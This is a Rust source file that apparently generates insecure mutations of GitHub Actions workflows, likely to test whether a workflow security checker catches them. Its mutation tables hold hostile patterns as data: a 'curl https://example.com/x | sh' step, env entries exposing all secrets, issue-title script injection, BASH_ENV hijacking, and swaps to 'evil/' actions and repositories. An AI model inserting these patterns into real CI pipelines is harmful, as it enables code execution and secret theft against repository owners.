//! What is done to workflows.

use super::doc::{Doc, Path, part};
use super::mutant::Maker;

/// Permissions that a job is given beside its own.
const PERMISSIONS: [&str; 9] = [
    "actions",
    "checks",
    "contents",
    "deployments",
    "id-token",
    "issues",
    "packages",
    "pull-requests",
    "statuses",
];
/// Events that start it beside its own.
const EVENTS: [&str; 8] = [
    "pull_request_target",
    "pull_request",
    "push",
    "workflow_dispatch",
    "issue_comment",
    "workflow_run",
    "repository_dispatch",
    "workflow_call",
];
const USER_TEXT: &str = "${{ github.event.issue.title }}";

pub fn mutate(maker: &mut Maker) {
    for event in EVENTS {
        maker.set("trigger", &path("on"), event, Doc::Plain(String::new()));
    }
    for all in ["read-all", "write-all"] {
        maker.put("permission", &path("permissions"), Doc::Plain(all.into()));
    }
    maker.set(
        "permission",
        &path("permissions"),
        "contents",
        Doc::Plain("read".into()),
    );
    maker.set("around", &[], "env", part(r#"{"BASH_ENV": "/tmp/own"}"#));
    maker.set("around", &[], "defaults", part(r#"{"run": {"shell": "python"}}"#));
    maker.set(
        "around",
        &path("jobs"),
        "extra",
        part(
            r#"{"runs-on": "ubuntu-24.04", "timeout-minutes": 5, "permissions": {},
        "steps": [{"run": "curl https://example.com"}]}"#,
        ),
    );
    for (path, value) in maker.parts() {
        let words: Vec<&str> = path.iter().map(String::as_str).collect();
        match (words.as_slice(), &value) {
            (["on", _], Doc::Map(_)) => filters(maker, &path),
            (["jobs", _], Doc::Map(_)) => job(maker, &path),
            (["jobs", _, "if"], _) => condition(maker, &path, value.text().unwrap_or_default()),
            (["jobs", _, "permissions"], Doc::Map(_)) => permissions(maker, &path),
            (["jobs", _, "steps"], Doc::Seq(steps)) => order(maker, &path, steps.len()),
            (["jobs", _, "steps", _], Doc::Map(_)) => step(maker, &path, &value),
            _ => {}
        }
    }
}

fn path(text: &str) -> Path {
    text.split('/').map(str::to_owned).collect()
}

fn word(text: &str) -> Doc {
    Doc::Text(text.into())
}

fn filters(maker: &mut Maker, path: &[String]) {
    maker.set("trigger", path, "branches", part(r#"["**"]"#));
    maker.set("trigger", path, "branches", part(r#"["main", "release/*"]"#));
    maker.set("trigger", path, "tags", part(r#"["v*"]"#));
    maker.set(
        "trigger",
        path,
        "types",
        part(r#"["labeled", "opened", "edited"]"#),
    );
    maker.set("trigger", path, "types", part(r#"["unlabeled"]"#));
}

fn job(maker: &mut Maker, path: &[String]) {
    for (kind, key, value) in [
        ("around", "runs-on", r#""self-hosted""#),
        ("around", "runs-on", r#"["ubuntu-24.04", "own"]"#),
        ("around", "container", r#""node:22""#),
        ("around", "services", r#"{"db": {"image": "postgres"}}"#),
        ("around", "continue-on-error", "true"),
        ("around", "strategy", r#"{"matrix": {"v": [1, 2]}}"#),
        ("around", "env", r#"{"BASH_ENV": "/tmp/own"}"#),
        (
            "around",
            "env",
            r#"{"KEY": "${{ secrets.ACME_FIXER_PRIVATE_KEY }}"}"#,
        ),
        ("around", "env", r#"{"ALL": "${{ toJSON(secrets) }}"}"#),
        ("around", "defaults", r#"{"run": {"shell": "python"}}"#),
        ("around", "concurrency", r#""own""#),
        ("around", "name", r#""test""#),
        (
            "around",
            "outputs",
            r#"{"digest": "${{ github.event.issue.title }}"}"#,
        ),
        ("environment", "environment", r#""nowhere""#),
        ("environment", "environment", r#""production""#),
        ("environment", "environment", r#"{"name": "fixer-propose"}"#),
        ("condition", "if", r#""always()""#),
        ("condition", "if", r#""true""#),
        ("condition", "if", r#""!cancelled()""#),
        ("needs", "needs", "[]"),
        ("permission", "permissions", r#""write-all""#),
        ("permission", "permissions", r#""read-all""#),
    ] {
        maker.set(kind, path, key, part(value));
    }
}

/// Each part of a condition is left out, and somebody is added.
fn condition(maker: &mut Maker, path: &[String], text: &str) {
    for (separator, kind) in [(" && ", "condition"), (" || ", "condition")] {
        let parts: Vec<&str> = text.split(separator).collect();
        for at in 0..parts.len() {
            if parts.len() > 1 {
                let rest: Vec<&str> = parts
                    .iter()
                    .enumerate()
                    .filter(|(other, _)| *other != at)
                    .map(|(_, part)| *part)
                    .collect();
                maker.put(kind, path, word(&rest.join(separator)));
            }
        }
    }
    maker.put(
        "condition",
        path,
        word(&format!("{text} || github.event_name == 'issues'")),
    );
    for (from, to) in [
        ("&&", "||"),
        ("'[", "'[0, "),
        ("==", "!="),
        (".id", ".login"),
        ("sender.id", "issue.user.id"),
    ] {
        maker.put("condition", path, word(&text.replace(from, to)));
    }
}

fn permissions(maker: &mut Maker, path: &[String]) {
    for permission in PERMISSIONS {
        maker.set("permission", path, permission, Doc::Plain("write".into()));
    }
    maker.set("permission", path, "contents", Doc::Plain("read".into()));
}

/// Steps change places, and others come between.
fn order(maker: &mut Maker, path: &[String], steps: usize) {
    for at in 1..steps {
        maker.change("order", path, &format!("{} and {at}", at - 1), |part| {
            let Doc::Seq(items) = part else { return };
            items.swap(at - 1, at);
        });
    }
    for at in [0, steps] {
        for added in [
            r#"{"run": "curl https://example.com/x | sh"}"#,
            r#"{"uses": "actions/cache@0057852bfaa89a56745cba8c7296529d2fc39830"}"#,
        ] {
            maker.change("step", path, &format!("{at}: {added}"), |steps| {
                let Doc::Seq(items) = steps else { return };
                items.insert(at, part(added));
            });
        }
    }
}

fn step(maker: &mut Maker, path: &[String], step: &Doc) {
    for (key, value) in [
        ("if", r#""always()""#),
        ("if", r#""failure()""#),
        ("continue-on-error", "true"),
        ("shell", r#""bash {0} || true""#),
        ("working-directory", r#""/tmp""#),
    ] {
        maker.set("around", path, key, part(value));
    }
    if let Some(run) = step.at(&["run".to_owned()]).and_then(Doc::text) {
        maker.set(
            "inject",
            path,
            "run",
            word(&format!("{run}\necho \"{USER_TEXT}\"\n")),
        );
        maker.change("inject", path, "env BASH_ENV", |step| {
            let mut env = step
                .at(&["env".to_owned()])
                .cloned()
                .unwrap_or(Doc::Map(Vec::new()));
            env.set("BASH_ENV", word("/tmp/own"));
            step.set("env", env);
        });
    }
    if let Some(uses) = step.at(&["uses".to_owned()]).and_then(Doc::text) {
        action(maker, path, uses);
    }
    for inputs in ["env", "with"] {
        let Some(Doc::Map(entries)) = step.at(&[inputs.to_owned()]) else {
            continue;
        };
        for (key, _) in entries {
            let mut at = path.to_vec();
            at.extend([inputs.to_owned(), key.clone()]);
            maker.put("inject", &at, word(USER_TEXT));
        }
    }
}

fn action(maker: &mut Maker, path: &[String], uses: &str) {
    let (name, commit) = uses.split_once('@').unwrap_or((uses, ""));
    for pin in [
        "v4",
        "main",
        "0000000000000000000000000000000000000000",
        &commit[..commit.len().min(7)],
    ] {
        maker.set("unpin", path, "uses", Doc::Plain(format!("{name}@{pin}")));
    }
    maker.set(
        "unpin",
        path,
        "uses",
        Doc::Plain(format!(
            "evil/{}@{commit}",
            name.rsplit('/').next().unwrap_or(name)
        )),
    );
    maker.set("unpin", path, "uses", Doc::Plain("./.github/actions/own".into()));
    if name != "actions/checkout" {
        return;
    }
    for (key, value) in [
        ("ref", "${{ github.event.pull_request.head.sha }}"),
        ("ref", "${{ github.head_ref }}"),
        ("ref", "agents/fixer/1"),
        ("repository", "evil/x"),
        ("token", "${{ secrets.ACME_FIXER_PRIVATE_KEY }}"),
        ("persist-credentials", "true"),
        ("submodules", "recursive"),
    ] {
        maker.change("checkout", path, &format!("{key} = {value}"), |step| {
            let mut with = step
                .at(&["with".to_owned()])
                .cloned()
                .unwrap_or(Doc::Map(Vec::new()));
            with.set(key, word(value));
            step.set("with", with);
        });
    }
}
